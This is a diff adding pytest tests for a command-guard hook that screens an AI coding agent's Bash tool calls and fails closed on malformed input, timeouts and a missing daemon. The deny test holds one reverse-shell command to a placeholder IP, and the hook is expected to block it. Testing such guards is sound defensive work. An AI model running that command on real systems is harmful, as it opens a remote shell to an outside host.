@@ -1,0 +1,138 @@
+"""The hook as the agent runs it: a new process per call, fail-closed on every bad path."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+BIN = Path(sys.executable).parent
+PAYLOAD = {
+    "session_id": "hook-test",
+    "transcript_path": "/t.jsonl",
+    "cwd": "/home/dev/src/app",
+    "permission_mode": "default",
+    "hook_event_name": "PreToolUse",
+    "tool_name": "Bash",
+    "tool_input": {"command": "ls -la", "description": "list"},
+    "tool_use_id": "toolu_1",
+}
+
+
+def hook(home: Path, data: bytes, **env: str) -> subprocess.CompletedProcess[bytes]:
+    return subprocess.run(
+        [str(BIN / "bastion-hook"), "claude-code"],
+        input=data,
+        capture_output=True,
+        env={**os.environ, "BASTION_HOME": str(home), **env},
+        timeout=60,
+    )
+
+
+@pytest.fixture
+def running(home: Path) -> Iterator[Path]:
+    subprocess.run(
+        [str(BIN / "bastion"), "up", "--home", str(home)],
+        check=True,
+        capture_output=True,
+        timeout=60,
+    )
+    yield home
+    subprocess.run(
+        [str(BIN / "bastion"), "down", "--home", str(home)], capture_output=True, timeout=60
+    )
+
+
+def test_allow_through_the_daemon(running: Path) -> None:
+    out = hook(running, json.dumps(PAYLOAD).encode())
+    assert out.returncode == 0 and out.stdout == b"" and out.stderr == b""
+
+
+def test_deny_through_the_daemon(running: Path) -> None:
+    data = dict(PAYLOAD, tool_input={"command": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"})
+    out = hook(running, json.dumps(data).encode())
+    reply = json.loads(out.stdout)["hookSpecificOutput"]
+    assert out.returncode == 0 and reply["permissionDecision"] == "deny"
+    assert "Bastion blocked" in reply["permissionDecisionReason"]
+
+
+@pytest.mark.parametrize(
+    ("data", "words"),
+    [
+        (b"", "empty"),
+        (b"{this is not json", "not valid JSON"),
+        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00binary", "not valid JSON"),
+        (b'{"hook_event_name": "PreToolUse"}', "no session_id"),
+    ],
+)
+def test_bad_input_is_refused_with_a_message(running: Path, data: bytes, words: str) -> None:
+    out = hook(running, data)
+    assert out.returncode == 2 and out.stdout == b""
+    assert out.stderr.startswith(b"Bastion:") and words.encode() in out.stderr
+    assert b"Traceback" not in out.stderr
+
+
+def test_fifty_megabyte_payload_is_refused_without_reaching_the_daemon(running: Path) -> None:
+    big = dict(PAYLOAD, tool_input={"command": "echo " + "A" * (50 * 1024 * 1024)})
+    out = hook(running, json.dumps(big).encode())
+    assert out.returncode == 2 and b"larger than" in out.stderr
+
+
+def test_without_a_daemon_the_hook_decides_and_starts_one(home: Path) -> None:
+    try:
+        out = hook(home, json.dumps(PAYLOAD).encode())
+        assert out.returncode == 0, out.stderr
+        deadline = time.monotonic() + 20
+        while not (home / "daemon.sock").exists() and time.monotonic() < deadline:
+            time.sleep(0.1)
+        assert (home / "daemon.sock").exists()
+        again = hook(home, json.dumps(PAYLOAD).encode())
+        assert again.returncode == 0
+    finally:
+        subprocess.run(
+            [str(BIN / "bastion"), "down", "--home", str(home)], capture_output=True, timeout=60
+        )
+
+
+def test_no_decision_at_all_fails_closed_and_names_the_fix(tmp_path: Path) -> None:
+    not_a_dir = tmp_path / "file"
+    not_a_dir.write_text("x")
+    out = hook(not_a_dir, json.dumps(PAYLOAD).encode())
+    assert out.returncode == 2 and b"denied to be safe" in out.stderr
+    assert b"bastion up" in out.stderr
+
+
+def test_operator_can_choose_fail_open(tmp_path: Path) -> None:
+    not_a_dir = tmp_path / "file"
+    not_a_dir.write_text("x")
+    out = hook(not_a_dir, json.dumps(PAYLOAD).encode(), BASTION_ON_UNAVAILABLE="allow")
+    assert out.returncode == 0 and b"allowed by BASTION_ON_UNAVAILABLE" in out.stderr
+
+
+def test_a_daemon_that_never_answers_times_out_closed(home: Path) -> None:
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(str(home / "daemon.sock"))
+    server.listen(1)
+    held: list[socket.socket] = []
+
+    def accept() -> None:
+        conn, _ = server.accept()
+        held.append(conn)  # accept and say nothing
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    try:
+        out = hook(home, json.dumps(PAYLOAD).encode(), BASTION_HOOK_TIMEOUT="1")
+        assert out.returncode == 2 and b"did not answer within 1 s" in out.stderr
+    finally:
+        for conn in held:
+            conn.close()
+        server.close()
